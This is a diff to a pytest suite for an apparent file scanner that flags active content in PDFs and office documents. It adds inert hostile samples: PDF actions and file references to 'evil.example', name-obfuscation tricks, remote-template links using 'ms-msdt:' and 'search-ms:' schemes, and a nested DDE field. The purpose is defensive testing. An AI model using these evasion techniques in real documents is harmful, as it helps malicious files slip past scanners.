@@ -4,7 +4,7 @@ import io
 import time
 import zipfile
 import zlib
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 
 import pytest
 
@@ -16,6 +16,9 @@ CONTENT_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
 RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+HARMFUL = b"5 0 <</S/JavaScript/JS(x)>>"
 
 
 def types(*kinds: str) -> str:
@@ -36,15 +39,19 @@ def related(kind: str, target: str, mode: str = "") -> str:
 def field(*runs: str) -> str:
     """A document with one field whose instruction stands in these runs."""
     said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
-    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
-    return f'<w:document xmlns:w="{WORD}"><w:body><w:p>{begin}{said}</w:p></w:body></w:document>'
+    return f'<w:document xmlns:w="{WORD}"><w:body><w:p>{BEGIN}{said}{END}</w:p></w:body></w:document>'
 
 
-def packed(parts: dict[str, str | bytes], main: str = "word/document.xml") -> bytes:
+def simple_field(instruction: str) -> str:
+    """A document with one field in one element."""
+    return f'<w:document xmlns:w="{WORD}"><w:body><w:fldSimple w:instr="{instruction}"/></w:body></w:document>'
+
+
+def packed(parts: Mapping[str, str | bytes], main: str = "word/document.xml") -> bytes:
     """An office file with these parts beside those that it must have."""
     written = io.BytesIO()
     with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, content in ({"[Content_Types].xml": types(), main: "<x/>"} | parts).items():
+        for name, content in {"[Content_Types].xml": types(), main: "<x/>", **parts}.items():
             archive.writestr(name, content)
     return written.getvalue()
 
@@ -131,6 +138,55 @@ ACTIVE: dict[str, tuple[bytes, Active]] = {
     ),
     "PDF with an object stream that grows without end": (object_stream(bytes(20_000_000)), Active.HIDDEN),
     "locked PDF": (b"%PDF-1.7\ntrailer<</Encrypt 9 0 R>>", Active.HIDDEN),
+    "PDF whose first action has another behind it": (
+        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/GoTo/X<<>>/D[3 0 R]/Next 9 0 R>>>>endobj", Active.SCRIPT,
+    ),
+    "PDF that says of an address that it is a page": (
+        b"%PDF-1.7\n1 0 obj<</OpenAction<</URI(/S /GoTo )/S/URI>>>>endobj", Active.SCRIPT,
+    ),
+    "PDF that hides what follows in a string": (
+        b"%PDF-1.7\n1 0 obj<</OpenAction<</S/GoTo/D(>>)/Next 9 0 R>>>>endobj", Active.SCRIPT,
+    ),
+    "PDF with two objects of one number": (
+        b"%PDF-1.7\n1 0 obj<</OpenAction 5 0 R>>endobj\n5 0 obj<</S/GoTo>>endobj\n05%\n0 obj<</S/URI>>endobj", Active.SCRIPT,
+    ),
+    "PDF that goes to another file": (b"%PDF-1.7\n1 0 obj<</A<</S/GoToR/F(x.pdf)>>>>endobj", Active.COMMAND),
+    "PDF that names another file": (b"%PDF-1.7\n1 0 obj<</Type/Filespec/UF(//evil/x)>>endobj", Active.EXTERNAL),
+    "PDF that loads from an address": (b"%PDF-1.7\n1 0 obj<</FS /URL/F(http://evil.example)>>endobj", Active.EXTERNAL),
+    "PDF whose stream lies elsewhere": (b"%PDF-1.7\n1 0 obj\n<</Length 0/F(//evil/x)>>stream\nendstream", Active.HIDDEN),
+    "PDF sent to an address": (b"%PDF-1.7\n1 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj", Active.COMMAND),
+    "PDF that takes data in": (b"%PDF-1.7\n1 0 obj<</S/ImportData/F(x.fdf)>>endobj", Active.COMMAND),
+    "PDF with an object stream whose filter is an object": (object_stream(HARMFUL, b"/Filter 9 0 R"), Active.HIDDEN),
+    "PDF with an object stream whose filter is commented": (
+        object_stream(HARMFUL, b"/Filter%x\n/FlateDecode"), Active.HIDDEN,
+    ),
+    "PDF with an object stream by the short name of its filter": (object_stream(HARMFUL, b"/F/FlateDecode"), Active.SCRIPT),
+    "PDF with an object stream behind a word": (object_stream(HARMFUL, b"/X(1 0 obj<<)/Filter/FlateDecode"), Active.HIDDEN),
+    "PDF with an object stream behind a comment": (
+        object_stream(HARMFUL, b"/Filter/FlateDecode %1 0 obj<<\n").replace(b"/Length", b"/X 1 /Length"), Active.HIDDEN,
+    ),
+    "PDF with an object stream far behind its head": (
+        object_stream(HARMFUL, b"/Filter/FlateDecode /X(" + b"x" * 9000 + b")"), Active.HIDDEN,
+    ),
+    "PDF with an object stream behind another end of line": (
+        object_stream(HARMFUL).replace(b"stream\nx", b"stream \rx", 1), Active.SCRIPT,
+    ),
+    "part of another format": (packed({"word/_rels/document.xml.rels": related("aFChunk", "x.html")}), Active.EMBEDDED),
+    "an add-in": (packed({"word/_rels/document.xml.rels": related("webextensiontaskpanes", "x.xml")}), Active.EXTERNAL),
+    "OpenDocument to another office": (packed({"mimetype": "application/vnd.oasis.opendocument.text"}), Active.HIDDEN),
+    "OpenDocument by its manifest": (packed({"META-INF/manifest.xml": "<x/>"}), Active.HIDDEN),
+    "a picture in words, from elsewhere": (
+        packed({"word/document.xml": '<x xmlns:v="urn:v"><v:imagedata src="//evil/x.png"/></x>'}), Active.EXTERNAL,
+    ),
+    "a picture by a link": (
+        packed({"xl/drawings/d.xml": '<x xmlns:a="urn:a" xmlns:r="urn:r"><a:blip r:link="r1"/></x>'}, WORKBOOK), Active.EXTERNAL,
+    ),
+    "a word by the numbers of its letters": (packed({"word/document.xml": field("QUOTE 68 68 69")}), Active.COMMAND),
+    "a button for a macro": (packed({"word/document.xml": field(" MACROBUTTON x y")}), Active.COMMAND),
+    "a field in a field": (
+        packed({"word/document.xml": field("D", "</w:instrText></w:r>" + BEGIN + "<w:r><w:instrText>PAGE</w:instrText></w:r>"
+                                           + END + "<w:r><w:instrText>", "DE cmd")}), Active.COMMAND,
+    ),
 }  # fmt: skip
 
 
@@ -143,11 +199,112 @@ def test_active_content_is_found_under_any_name(name: str) -> None:
     assert recognise(content) is None
 
 
+BETWEEN = (b"", b" ", b"\0", b"\r\n", b"%\n", b"% (]>> \r", b"%a\n\0%b\r \n", b"%" + b"x" * 5000 + b"\n")
+"""What a reader leaves out between two words: blanks, NUL, comments of any length."""
+
+VALUES = (b"<</O 5 0 R>>", b"(app.alert)", b"<6170>", b"5 0 R", b"5%x\n0%y\nR")
+
+
+@pytest.mark.parametrize("between", BETWEEN)
+@pytest.mark.parametrize("name", [b"/JS", b"/AA", b"/Encrypt", b"/#4aS", b"/A#41"])
+def test_no_blank_and_no_comment_hides_a_short_name(name: bytes, between: bytes) -> None:
+    """Whatever stands between a name and its value, or within the value: it is the same entry, and the file is not taken."""
+    for value in VALUES[: None if between else 3]:  # a number right behind a name is part of the name
+        content = b"%PDF-1.7\n1 0 obj<<" + name + between + value + b">>endobj"
+        assert examine(content).active is not None, value
+        assert examine(object_stream(b"5 0 <<" + name + between + value + b">>")).active is not None, value
+
+
+@pytest.mark.parametrize("between", BETWEEN[1:])
+@pytest.mark.parametrize("name", [
+    b"JavaScript", b"RichMedia", b"Rendition", b"OnInstantiate", b"Launch", b"SubmitForm", b"ImportData", b"GoToE", b"GoToR",
+    b"EmbeddedFile", b"EmbeddedFiles", b"XFA", b"Filespec", b"FS /URL", b"FS%x\n/URL",
+])  # fmt: skip
+def test_no_spelling_hides_a_long_name(name: bytes, between: bytes) -> None:
+    """Each letter by its number, anything behind it: the name is the name."""
+    plain = b"%PDF-1.7\n1 0 obj<</S" + between + b"/" + name + between + b">>endobj"
+    assert examine(plain).active is not None
+    for at in range(len(name.split(b"/")[0].split(b" ")[0].split(b"%")[0])):
+        spelled = name[:at] + b"#%02x" % name[at] + name[at + 1 :]
+        assert examine(b"%PDF-1.7\n1 0 obj<</S/" + spelled + between + b">>endobj").active is not None, spelled
+
+
+@pytest.mark.parametrize("target", [
+    "file:///c:/x.dotm", "FILE://evil/x", "//evil/x.png", "\\\\evil\\x.png", "http://evil.example/x", "https://evil.example/?a=1&amp;b=2",
+    "c:\\x.dotm", "search-ms:query=x", "ms-msdt:/id", " file://evil/x", "&#102;ile://evil/x", "\\/evil/x",
+])  # fmt: skip
+@pytest.mark.parametrize("mode", ["", "Internal", "External"])
+def test_no_part_lies_elsewhere_whatever_it_is_called(target: str, mode: str) -> None:
+    """A picture, a template, a frame by an address, a share or a disk: not taken, also where nothing says External."""
+    for kind in ("image", "attachedTemplate", "frame", "subDocument", "mailMergeSource", "oneDayNew"):
+        content = packed({"word/_rels/document.xml.rels": related(kind, target, mode)})
+        assert examine(content).active is Active.EXTERNAL, kind
+
+
+@pytest.mark.parametrize(
+    "target", ["file:///c:/x.exe", "//evil/x", "\\\\evil\\x", "search-ms:query=x", "ms-msdt:/id", "javascript:x"]
+)
+def test_no_link_leads_to_a_program_or_a_share(target: str) -> None:
+    """What a person clicks leads where a browser, a mail program or a telephone goes: by a relationship and by a field."""
+    as_relationship = {"word/_rels/document.xml.rels": related("hyperlink", target, "External")}
+    for parts in (as_relationship, {"word/document.xml": field(f' HYPERLINK "{target}"')}):
+        assert examine(packed(parts)).active is Active.EXTERNAL
+
+
+@pytest.mark.parametrize(
+    "word", ["LINK", "INCLUDE", "INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "RD", "DATABASE", "includePicture"]
+)
+def test_no_field_loads_another_file(word: str) -> None:
+    """Whatever field takes in what lies elsewhere, in one run, in many, and in one element."""
+    said = f' {word} "http://evil.example/x.png" \\d '
+    for content in (field(said), field(*said), simple_field(said.replace('"', "&quot;"))):
+        assert examine(packed({"word/document.xml": content})).active is Active.EXTERNAL
+        assert examine(packed({"word/footer9.xml": content})).active is Active.EXTERNAL
+
+
+def archive(**parts: str) -> bytes:
+    """An archive of other parts than a docx or xlsx has."""
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w") as target:
+        for name, content in parts.items():
+            target.writestr(name.replace("__", "/").replace("_xml", ".xml"), content)
+    return written.getvalue()
+
+
+@pytest.mark.parametrize("content", [
+    archive(mimetype="application/vnd.oasis.opendocument.text", content_xml='<x xlink:href="http://evil.example"/>'),
+    archive(mimetype="application/vnd.oasis.opendocument.text", Basic__Standard__x_xml="<x/>", META_INF__manifest_xml="<x/>"),
+    archive(**{"[Content_Types].xml": types(), "ppt__presentation_xml": "<x/>"}),
+    archive(**{"[Content_Types].xml": types(), "visio__document_xml": "<x/>"}),
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
+    b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE x}}}",
+], ids=["odt", "odt with scripts", "pptx", "vsdx", "doc", "rtf"])  # fmt: skip
+def test_files_of_other_offices_are_not_taken(content: bytes) -> None:
+    """OpenDocument, presentations, drawings and the formats of old are looked into by nobody, so nobody takes them."""
+    assert recognise(content) is None
+    assert examine(content).media_type is None
+
+
 QUIET: dict[str, tuple[bytes, str]] = {
     "letter with a link": (
         packed({"word/_rels/document.xml.rels": related("hyperlink", "https://town.example/", "External"),
                 "word/document.xml": field(' HYPERLINK "https://town.example/" ', " PAGE ADDED")}),
         DOCX,
+    ),
+    "letter with a link that asks for two things": (
+        packed({"word/_rels/document.xml.rels": related("hyperlink", "https://town.example/?a=1&amp;b=2", "External")}), DOCX,
+    ),
+    "letter with links by mail, telephone and folder": (
+        packed({f"word/_rels/{n}.xml.rels": related("hyperlink", to, "External")
+                for n, to in enumerate(("mailto:a@town.example", "tel:12345", "annex.docx", "#top"))}), DOCX,
+    ),
+    "letter that speaks of links": (
+        packed({"word/document.xml": field(' HYPERLINK "https://town.example/link/include" ', " TOC ", " REF database ")}), DOCX,
+    ),
+    "letter from a template": (packed({"word/_rels/settings.xml.rels": related("attachedTemplate", "Normal.dotm")}), DOCX),
+    "PDF that speaks of streams and objects": (
+        b"%PDF-1.7\n1 0 obj<</Title(a stream of 1 0 obj, /F)>>endobj 2 0 obj<</First 5 0 R>>endobj 3 0 obj<<>>stream\nx",
+        "application/pdf",
     ),
     "letter with a chart": (packed({"word/embeddings/figures.xlsx": packed({}, WORKBOOK)}), DOCX),
     "table with many sheets": (packed({f"xl/worksheets/sheet{n}.xml": "<x/>" for n in range(300)}, WORKBOOK), XLSX),
